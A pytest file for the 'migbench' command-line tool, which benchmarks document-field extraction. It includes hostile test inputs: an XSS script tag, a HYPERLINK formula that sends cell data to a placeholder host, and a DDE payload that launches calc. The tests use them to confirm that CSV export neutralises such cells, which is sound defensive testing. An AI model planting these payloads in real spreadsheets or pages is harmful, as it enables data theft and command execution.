import csv
import io
import json
import subprocess
import sys

import pytest
from migbench.cli import main
from migbench.datasets import find_ground_truth, load_dataset
from migbench.retry import RetryPolicy
from migbench.runner import Runner, RunOptions
from migbench.store import RunStore

from tests.conftest import SYNTH, ScriptedBackend


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("results")
    ds = load_dataset(SYNTH)
    answers = {d.doc_id: dict(d.ground_truth) for d in ds.documents}
    first = ds.documents[0]
    answers[first.doc_id]["SUPPLIER_NAME"] = "<script>alert(1)</script>"
    Runner(ScriptedBackend(answers), ds, RunStore(tmp), RunOptions(limit=6, retry=RetryPolicy(base_s=0.001))).run()
    return tmp


def test_parse_reads_stdin_and_prints_fields_as_json(monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"**TOTAL_AMOUNT**: $12.50\nGST_AMOUNT: n/a\n")))
    assert main(["parse", "--doc-type", "receipt"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert out["TOTAL_AMOUNT"] == "$12.50" and out["GST_AMOUNT"] == "NOT_FOUND"


def test_parse_survives_binary_junk_on_stdin():
    p = subprocess.run([sys.executable, "-m", "migbench.cli", "parse", "--doc-type", "invoice"],
                       input=bytes(range(256)) * 50, capture_output=True, timeout=60, check=False)
    assert p.returncode == 0 and json.loads(p.stdout)["TOTAL_AMOUNT"] == "NOT_FOUND"


def test_unknown_backend_is_one_clear_line(capsys, tmp_path):
    assert main(["run", "--backend", "gpt-99", "--results", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "unknown backend 'gpt-99'" in err and "Traceback" not in err


def test_rescore_reparses_stored_raw_text_without_a_model(results, capsys):
    store = RunStore(results)
    run_id = store.resolve("latest")
    before = {d.doc_id: d.doc_f1 for d in store.documents(run_id)}
    store._write("UPDATE documents SET doc_f1=0, scores_json='[]' WHERE run_id=?", (run_id,))
    assert main(["rescore", "latest", "--results", str(results)]) == 0
    after = {d.doc_id: d.doc_f1 for d in store.documents(run_id)}
    assert after == pytest.approx(before)


def test_export_writes_the_ground_truth_format_and_scores(results, tmp_path):
    out = tmp_path / "pred.csv"
    assert main(["export", "latest", "--results", str(results), "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open()))
    with find_ground_truth(SYNTH).open() as fh:
        header = next(csv.reader(fh))
    assert list(rows[0]) == [c for c in header if c != "TIER"]
    assert len(rows) == 6 and rows[0]["SUPPLIER_NAME"] == "<script>alert(1)</script>"
    scores = list(csv.DictReader(out.with_name("pred.scores.csv").open()))
    assert {"field", "expected", "predicted", "f1"} <= set(scores[0])
    jl = tmp_path / "pred.jsonl"
    assert main(["export", "latest", "--results", str(results), "--out", str(jl)]) == 0
    assert json.loads(jl.read_text().splitlines()[0])["image_file"] == rows[0]["image_file"]


def test_unknown_run_reference_lists_known_runs(results, capsys):
    assert main(["export", "nope", "--results", str(results), "--out", "/tmp/x.csv"]) == 2
    assert "no run 'nope'" in capsys.readouterr().err


def test_backends_lists_every_registered_backend(capsys):
    assert main(["backends"]) == 0
    out = capsys.readouterr().out
    for name in ("ocr-baseline", "nova-pro", "au-nova-lite", "sagemaker", "llama-3.2-vision"):
        assert name in out


def test_a_non_australian_region_is_refused_before_any_request(tmp_path, monkeypatch, capsys):
    from migbench.emulator import run_emulator

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    with run_emulator() as emu:
        monkeypatch.setenv("AWS_ENDPOINT_URL_BEDROCK_RUNTIME", emu.url)
        for extra in (["--region", "us-east-1"], ["--model", "apac.amazon.nova-pro-v1:0"],
                      ["--model", "global.anthropic.claude-sonnet-4-5-20250929-v1:0"]):
            code = main(["run", "--backend", "nova-pro", "--results", str(tmp_path), "--allow-loopback",
                         "--limit", "2", *extra])
            err = capsys.readouterr().err
            assert code == 2 and "Traceback" not in err, err
        assert emu.stats.snapshot()["requests"] == 0


# --- hostile input on the command line ----------------------------------------------------------

@pytest.mark.parametrize("flags,named", [
    (["--limit", "-1"], "--limit"), (["--limit", "0"], "--limit"), (["--concurrency", "0"], "--concurrency"),
    (["--concurrency", "-4"], "--concurrency"), (["--tpm", "-5"], "--tpm"), (["--tpm", "nan"], "--tpm"),
    (["--rpm", "0"], "--rpm"), (["--rpm", "inf"], "--rpm"), (["--batch-size", "0"], "--batch-size"),
    (["--max-image-dim", "-1"], "--max-image-dim"), (["-o", "concurrency=0"], "concurrency"),
    (["-o", "tokens_per_min=-5"], "tokens_per_min"), (["-o", "batch_size=1.5"], "batch_size"),
    (["-o", "concurrency=true"], "concurrency"),
])
def test_run_refuses_nonsense_numbers_with_one_line(tmp_path, capsys, flags, named):
    assert main(["run", "--results", str(tmp_path), *flags]) == 2
    err = capsys.readouterr().err
    assert named in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err
    assert not (tmp_path / "migbench.sqlite").exists()  # refused before anything ran


def test_parse_never_crashes_on_text_it_cannot_encode():
    text = b'{"SUPPLIER_NAME": "Caf\\ud800e", "TOTAL_AMOUNT": "\\udfff$1"}\nBUSINESS_ABN: \xed\xa0\x80'
    p = subprocess.run([sys.executable, "-m", "migbench.cli", "parse", "--doc-type", "receipt"],
                       input=text, capture_output=True, timeout=60, check=False,
                       env={**__import__("os").environ, "PYTHONIOENCODING": "ascii"})
    assert p.returncode == 0, p.stderr.decode()
    out = json.loads(p.stdout)
    assert out["SUPPLIER_NAME"] == "Caf\ufffde" and "Traceback" not in p.stderr.decode()


def test_parse_into_a_closed_pipe_ends_quietly():
    # `migbench parse ... | head -0`: the reader is gone before the output is written
    p = subprocess.Popen([sys.executable, "-m", "migbench.cli", "parse", "--doc-type", "invoice"],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    p.stdout.close()
    _, err = p.communicate(b"TOTAL_AMOUNT: $1\n" * 1000, timeout=60)
    assert b"BrokenPipeError" not in err and b"Traceback" not in err, err.decode()
    assert p.returncode == 0


def test_export_neutralises_formulas_in_every_csv_it_writes(tmp_path):
    from migbench.csvsafe import needs_prefix, restore_cell
    from PIL import Image

    ds_dir = tmp_path / "ds"
    ds_dir.mkdir()
    for name in ("=cmd.png", "ok.png"):
        Image.new("RGB", (20, 20), "white").save(ds_dir / name)
    (ds_dir / "ground_truth.csv").write_text(
        "image_file;DOCUMENT_TYPE;SUPPLIER_NAME;TOTAL_AMOUNT\n'=cmd.png;RECEIPT;Coles;-12.50\nok.png;RECEIPT;@SUM(1);$1\n")
    ds = load_dataset(ds_dir)
    assert [d.doc_id for d in ds.documents] == ["=cmd.png", "ok.png"]
    answers = {"=cmd.png": {"SUPPLIER_NAME": '=HYPERLINK("http://x/?"&A1)', "TOTAL_AMOUNT": "-12.50"},
               "ok.png": {"SUPPLIER_NAME": "+1+cmd|' /C calc'!A0", "TOTAL_AMOUNT": "@SUM(1)"}}
    results = tmp_path / "results"
    Runner(ScriptedBackend(answers), ds, RunStore(results), RunOptions(retry=RetryPolicy(base_s=0.001))).run()
    out = tmp_path / "pred.csv"
    assert main(["export", "latest", "--results", str(results), "--out", str(out)]) == 0
    pred = list(csv.reader(out.open(newline=""), delimiter=";"))  # the ground truth's own delimiter
    scores = list(csv.reader(out.with_name("pred.scores.csv").open(newline="")))
    for row in pred + scores:
        for cell in row:
            # a cell that could run is only ever there in its neutralised form
            assert not needs_prefix(cell) or restore_cell(cell) != cell, (row, cell)
    by_file = {r[0]: r for r in pred[1:]}
    assert by_file["'=cmd.png"][2:] == ["'=HYPERLINK(\"http://x/?\"&A1)", "-12.50"]  # a number stays a number
    assert by_file["ok.png"][2:] == ["'+1+cmd|' /C calc'!A0", "'@SUM(1)"]
    # what migbench wrote, migbench reads back as it was (the ground-truth reader restores cells)
    from migbench.datasets import _read_rows

    rows, bad, delimiter = _read_rows(out, None)
    assert delimiter == ";" and not bad
    assert {r["image_file"]: r["SUPPLIER_NAME"] for _, r in rows} == {
        "=cmd.png": '=HYPERLINK("http://x/?"&A1)', "ok.png": "+1+cmd|' /C calc'!A0"}


# --- what a newcomer sees (issue 13 §6, §8) ---------------------------------------------------------

def test_an_emulated_run_is_labelled_and_a_resume_shows_the_runs_f1(tmp_path, monkeypatch, capsys):
    """The summary of an emulated run says EMULATED beside its F1; after a resume the F1 shown is the
    whole run's (mean and median, failed excluded and as 0), the invocation's only labelled apart."""
    pytest.importorskip("boto3")
    from migbench.emulator import GroundTruthResponder, run_emulator

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("COLUMNS", "200")
    with run_emulator(responder=GroundTruthResponder(load_dataset(SYNTH))) as emu:
        monkeypatch.setenv("AWS_ENDPOINT_URL_BEDROCK_RUNTIME", emu.url)
        base = ["run", "--backend", "nova-pro", "--results", str(tmp_path), "--allow-loopback"]
        assert main([*base, "--limit", "2"]) == 0
        first = capsys.readouterr()
        assert main([*base, "--limit", "4"]) == 0
        second = capsys.readouterr()
    assert "[EMULATED]" in first.err and "EMULATED (answers from a local emulator" in first.err
    assert "mean 1.000, median 1.000 over 2 documents (failed excluded" in first.err
    assert "incumbent scoring" in first.err and "this invocation only" not in first.err
    # resumed: 2 stored + 2 new; the headline covers all 4, the invocation's figure is labelled
    assert "mean 1.000, median 1.000 over 4 documents (0 failed, counted as 0)" in second.err
    assert "mean doc F1, this invocation only" in second.err and "over the 2 documents done now" in second.err
    assert first.out.strip() == second.out.strip()  # the same run id, for rescore/export


def test_runs_never_cuts_run_ids_at_80_columns(tmp_path, monkeypatch, capsys):
    from migbench.store import RunMeta

    store = RunStore(tmp_path)
    for backend, model in (("au-claude-sonnet-4-5", "au.anthropic.claude-sonnet-4-5-20250929-v1:0"),
                           ("ocr-baseline", "rapidocr-onnxruntime-1.4.4")):
        store.open_run(RunMeta(backend, "bedrock", model, {}, str(SYNTH), "d" * 64, 30, "p" * 64, "kv"))
    monkeypatch.setenv("COLUMNS", "80")
    assert main(["runs", "--results", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    run_ids = [r.run_id for r in RunStore(tmp_path).runs()]
    assert len(run_ids) == 2 and all(len(line) <= 80 for line in out.splitlines())
    for run_id in run_ids:
        assert run_id in out  # whole, on one line, copyable into rescore/export


@pytest.mark.parametrize("command", [["runs"], ["rescore", "latest"], ["export", "latest", "--out", "x.csv"]])
def test_a_mistyped_results_folder_is_one_line_and_creates_nothing(tmp_path, monkeypatch, capsys, command):
    monkeypatch.chdir(tmp_path)
    assert main([*command, "--results", "resutls"]) == 2
    err = capsys.readouterr().err
    assert "resutls" in err and "no migbench run store" in err and len(err.strip().splitlines()) == 1
    assert list(tmp_path.iterdir()) == []


def test_run_help_names_the_backends_without_importing_adapters():
    code = ("import sys; from migbench.cli import build_parser\n"
            "h = build_parser()._subparsers._group_actions[0].choices['run'].format_help()\n"
            "print(h); print('ADAPTERS', sorted(m for m in sys.modules if m.startswith('migbench.adapters')))")
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True,
                       env={**__import__("os").environ, "COLUMNS": "400"})
    text = " ".join(p.stdout.split())
    assert "backend to run (default: ocr-baseline): ocr-baseline, nova-pro, nova-lite," in text
    assert "qwen2.5-vl" in text and "only the first N documents" in text
    assert "ADAPTERS ['migbench.adapters']" in p.stdout or "ADAPTERS []" in p.stdout


def test_generate_help_names_the_migbench_command(capsys):
    with pytest.raises(SystemExit):
        main(["generate", "--help"])
    out = capsys.readouterr().out
    assert out.startswith("usage: migbench generate") and "python -m" not in out


def test_parse_refuses_an_unknown_document_type_with_the_known_ones(monkeypatch, capsys):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"TOTAL_AMOUNT: $1\n")))
    assert main(["parse", "--doc-type", "foo"]) == 2
    err = capsys.readouterr().err
    assert "unknown document type 'foo'" in err and "bank_statement, invoice, receipt" in err


def test_iam_policy_writes_a_file_only_when_asked(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert main(["iam-policy", "--backend", "nova-pro"]) == 0
    assert json.loads(capsys.readouterr().out)["Version"] == "2012-10-17"
    assert list(tmp_path.iterdir()) == []
    assert main(["iam-policy", "--backend", "nova-pro", "--out", "p.json"]) == 0
    assert json.loads((tmp_path / "p.json").read_text())["Version"] == "2012-10-17"


def test_an_error_naming_an_extra_in_brackets_is_printed_as_written(monkeypatch, capsys):
    from migbench import cli
    from migbench.contracts import SetupError

    def refuse(args):
        raise SetupError("pip install 'migbench[vllm]' on a GPU host")

    monkeypatch.setattr(cli, "cmd_runs", refuse)
    assert cli.main(["runs"]) == SetupError("").exit_code
    assert "migbench[vllm]" in capsys.readouterr().err
